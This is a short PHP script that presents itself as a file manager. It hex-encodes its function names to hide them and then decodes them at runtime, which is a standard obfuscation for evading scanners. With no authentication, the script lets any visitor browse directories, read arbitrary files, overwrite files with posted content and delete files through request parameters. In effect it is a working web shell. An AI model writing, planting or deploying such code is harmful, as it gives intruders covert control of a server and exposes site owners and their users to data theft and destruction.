<?php
// A file manager whose function names are stored hex-encoded and decoded into a table first.
$t = array("676574637764", "6368646972", "7363616e646972", "69735f646972", "66696c655f6765745f636f6e74656e7473", "66696c655f7075745f636f6e74656e7473", "756e6c696e6b", "72656e616d65", "66696c6573697a65");
foreach ($t as $i => $h) {
    $t[$i] = pack('H*', $h);
}
$cwd = isset($_GET['d']) ? $_GET['d'] : $t[0]();
$t[1]($cwd);
if (isset($_POST['save'], $_GET['f'])) {
    $t[5]($_GET['f'], $_POST['save']);
}
if (isset($_GET['rm'])) {
    $t[6]($_GET['rm']);
}
foreach ($t[2]($cwd) as $e) {
    echo htmlspecialchars($e), $t[3]($e) ? '/' : ' ' . $t[8]($e), "<br>";
}
if (isset($_GET['v'])) {
    echo '<pre>' . htmlspecialchars($t[4]($_GET['v'])) . '</pre>';
}
